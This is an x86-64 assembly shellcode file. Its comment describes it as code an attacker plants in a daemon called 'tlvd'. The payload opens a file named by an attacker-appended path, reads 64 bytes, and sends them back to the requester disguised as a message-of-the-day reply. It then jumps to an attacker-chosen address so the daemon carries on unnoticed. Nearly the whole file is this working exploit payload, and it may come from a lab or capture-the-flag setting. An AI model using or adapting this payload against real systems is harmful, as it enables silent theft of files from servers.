/* SPDX-License-Identifier: ISC */

/*
 * Code for tlvd's page of labels: answers the current request with the file that
 * the parameters name, and goes on.  Behind the code the attacker puts
 *
 *	u64	address of `current`
 *	u64	where to go on
 *	text	path
 */

	lea	parameters(%rip), %rbx
	and	$-16, %rsp
	sub	$128, %rsp
	movl	$0x40000005, (%rsp)	/* TLV_MOTD, 64 bytes */
	mov	$257, %eax		/* openat */
	mov	$-100, %edi
	lea	16(%rbx), %rsi
	xor	%edx, %edx
	syscall
	mov	%eax, %edi
	xor	%eax, %eax		/* read */
	lea	4(%rsp), %rsi
	mov	$64, %edx
	syscall
	mov	$1, %eax		/* write */
	mov	(%rbx), %rdi
	mov	(%rdi), %rdi
	mov	(%rdi), %edi
	mov	%rsp, %rsi
	mov	$68, %edx
	syscall
	call	*8(%rbx)
parameters:
